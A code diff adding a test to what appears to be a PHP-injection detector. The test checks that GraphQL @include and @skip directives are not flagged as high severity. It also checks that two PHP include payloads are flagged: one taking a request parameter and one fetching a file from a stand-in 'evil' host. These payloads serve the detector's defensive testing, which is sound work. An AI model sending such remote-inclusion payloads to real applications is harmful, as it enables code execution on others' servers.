@@ -290,3 +290,15 @@ def test_a_bare_open_tag_with_no_code_is_only_suggestive(value):
 def test_manual_sections_and_trademarks_are_not_calls(value):
     v = assess(value)
     assert v is None or v.severity < Severity.HIGH, (value, v)
+
+
+def test_graphql_directives_are_not_php_calls():
+    from extauthz.decode import Input
+    from extauthz.detect.php import PhpInjection as Php
+
+    det = Php()
+    doc = "query Q($w: Boolean!) { posts(first: 5) @include(if: $w) { title } avatar @skip(if: $lite) }"
+    assert not [f for f in det.scan_input(Input("graphql", "query", doc)) if f.severity.name in ("HIGH", "CRITICAL")]
+    for payload in ('@include($_GET[1])', '@include("http://evil/x.txt")'):
+        assert any(f.rule == "php.function-call" and f.severity.name == "HIGH"
+                   for f in det.scan_input(Input("query", "q", payload))), payload
